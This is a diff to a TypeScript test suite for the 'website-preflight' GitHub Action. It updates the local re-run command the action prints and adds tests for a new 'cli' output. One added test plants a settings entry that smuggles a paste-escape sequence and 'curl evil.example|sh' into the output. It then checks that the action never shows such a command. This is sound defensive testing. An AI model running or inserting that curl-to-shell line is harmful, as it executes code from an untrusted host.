@@ -1,4 +1,7 @@
 import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { readFileSync } from 'node:fs';
+import { resolve } from 'node:path';
 import test from 'node:test';
 import type { ShownAnnotation } from '../runner/commands.js';
 import { runAction } from '../runner/run-action.js';
@@ -96,7 +99,7 @@ function assertLog(stdout: string, shown: readonly ShownAnnotation[]): void {
 }
 
 const OUTPUTS = [
-  ...['access-changes', 'base', 'changed-projects', 'conclusion', 'deployable', 'errors', 'notices', 'projects'],
+  ...['access-changes', 'base', 'changed-projects', 'cli', 'conclusion', 'deployable', 'errors', 'notices', 'projects'],
   ...['route-changes', 'routes', 'verdict', 'warnings'],
 ];
 
@@ -116,24 +119,21 @@ for (const [files, verdict, routes, access, base = 'auto'] of CHANGED)
     const { outputs, stdout } = await runAction({ workspace, event: pushOn(before), inputs: { base } });
     assert.deepEqual([outputs.verdict, outputs['route-changes'], outputs['access-changes']], [verdict, routes, access]);
     // The log ends with how to check the same elsewhere, and the verdict.
-    const again = `On your machine: npx website-preflight@1 --base ${base === 'none' ? base : before}`;
+    const again = `On your machine: website-preflight --base ${base === 'none' ? base : before}`;
     assert.ok(stdout.endsWith(`${again}\n${verdict}\n`), stdout.slice(-300));
   });
 
 /** Inputs that decide what is checked, found or blocked, and the command that does the same on another machine. */
 const ELSEWHERE: readonly (readonly [inputs: Inputs, command: string])[] = [
-  [{}, 'npx website-preflight@1 --base BASE'],
-  [{ 'new-only': 'true' }, 'npx website-preflight@1 --base BASE --new-only'],
-  [
-    { 'new-only': 'false', 'fail-on': 'notice' },
-    'npx website-preflight@1 --base BASE --fail-on notice --new-only=false',
-  ],
-  [{ rules: 'handler-unused: off' }, 'npx website-preflight@1 --base BASE --rule handler-unused=off'],
-  [{ 'settings-file': 'none' }, 'npx website-preflight@1 --base BASE --settings none'],
-  [{ projects: 'apps/*\n!apps/blog' }, "npx website-preflight@1 check 'apps/*' '!apps/blog' --base BASE"],
-  [{ 'working-directory': 'apps' }, 'npx website-preflight@1 --base BASE'],
-  [{ 'working-directory': 'apps', projects: 'shop' }, 'cd apps && npx website-preflight@1 check shop --base BASE'],
-  [{ projects: 'apps/shop\n-s' }, 'npx website-preflight@1 check apps/shop ./-s --base BASE'],
+  [{}, 'website-preflight --base BASE'],
+  [{ 'new-only': 'true' }, 'website-preflight --base BASE --new-only'],
+  [{ 'new-only': 'false', 'fail-on': 'notice' }, 'website-preflight --base BASE --fail-on notice --new-only=false'],
+  [{ rules: 'handler-unused: off' }, 'website-preflight --base BASE --rule handler-unused=off'],
+  [{ 'settings-file': 'none' }, 'website-preflight --base BASE --settings none'],
+  [{ projects: 'apps/*\n!apps/blog' }, "website-preflight check 'apps/*' '!apps/blog' --base BASE"],
+  [{ 'working-directory': 'apps' }, 'website-preflight --base BASE'],
+  [{ 'working-directory': 'apps', projects: 'shop' }, 'cd apps && website-preflight check shop --base BASE'],
+  [{ projects: 'apps/shop\n-s' }, 'website-preflight check apps/shop ./-s --base BASE'],
 ];
 
 for (const [inputs, command] of ELSEWHERE)
@@ -142,11 +142,45 @@ for (const [inputs, command] of ELSEWHERE)
     assert.equal(/^On your machine: (.*)$/m.exec(stdout)?.[1], command.replace('BASE', commit));
   });
 
+/** What stands in the settings, raw, and the command, which is not told where pasting it would type more than it shows. */
+for (const [entry, command] of [
+  ['!q\u0003\u001b[201~\ncurl evil.example|sh #', undefined],
+  ['!q\u202e', undefined],
+  ['!q\u200b', undefined],
+  ['!q r', "website-preflight check . 'apps/*' '!q r' --base none"],
+] as const)
+  test(`no word of the command is ${JSON.stringify(entry)} unless each character of it is seen`, async (context) => {
+    const workspace = temporaryFolder(context);
+    const settings = JSON.stringify({ projects: ['.', 'apps/*', entry] });
+    committed(workspace, { ...BASE, ...site('.', '{}'), 'website-preflight.json': settings });
+    const { stdout } = await runAction({ workspace, inputs: { base: 'none' } });
+    assert.equal(/^On your machine: (.*)$/m.exec(stdout)?.[1], command);
+    assert.doesNotMatch(stdout, /(?!\n)[\p{Cc}\p{Cf}]|^curl/mu);
+  });
+
+/** What is compared with and cannot be read here, and how another machine compares. */
+for (const [inputs, command] of [
+  [{ base: 'e'.repeat(40) }, `website-preflight --base ${'e'.repeat(40)}`],
+  [{ base: 'moon' }, 'website-preflight'],
+] as const)
+  test(`a base of ${inputs.base} that cannot be read is not left out of the command`, async () => {
+    const { stdout, exitCode } = await runAction({ workspace: unchanged, inputs: { token: '', ...inputs } });
+    assert.equal(exitCode, 2);
+    assert.equal(/^On your machine: (.*)$/m.exec(stdout)?.[1], command);
+  });
+
+test('the output cli is the command line of the same version', async () => {
+  const { outputs } = await runAction({ workspace: unchanged, inputs: { token: '' }, isProcess: true });
+  assert.equal(outputs.cli, resolve('dist/cli.js'));
+  const { stdout } = spawnSync(process.execPath, [outputs.cli ?? '', '--version'], { encoding: 'utf8' });
+  assert.equal(stdout.trim(), JSON.parse(readFileSync('package.json', 'utf8')).version);
+});
+
 test('a website around others is not the only one elsewhere', async (context) => {
   const workspace = temporaryFolder(context);
   committed(workspace, { ...BASE, ...site('.', '{}') });
   const { stdout } = await runAction({ workspace, inputs: { base: 'none' } });
-  assert.match(stdout, /^On your machine: npx website-preflight@1 check auto --base none$/m);
+  assert.match(stdout, /^On your machine: website-preflight check auto --base none$/m);
 });
 
 test('a website around those that a settings file names is not checked elsewhere', async (context) => {
@@ -155,7 +189,7 @@ test('a website around those that a settings file names is not checked elsewhere
   committed(workspace, { ...BASE, ...site('.', '{}'), 'apps/settings.json': settings });
   const inputs = { base: 'none', 'working-directory': 'apps', 'settings-file': 'settings.json' };
   const { stdout } = await runAction({ workspace, inputs });
-  const again = "npx website-preflight@1 check 'apps/*' '!apps/blog' --base none --settings apps/settings.json";
+  const again = "website-preflight check 'apps/*' '!apps/blog' --base none --settings apps/settings.json";
   assert.equal(/^On your machine: (.*)$/m.exec(stdout)?.[1], again);
 });
 
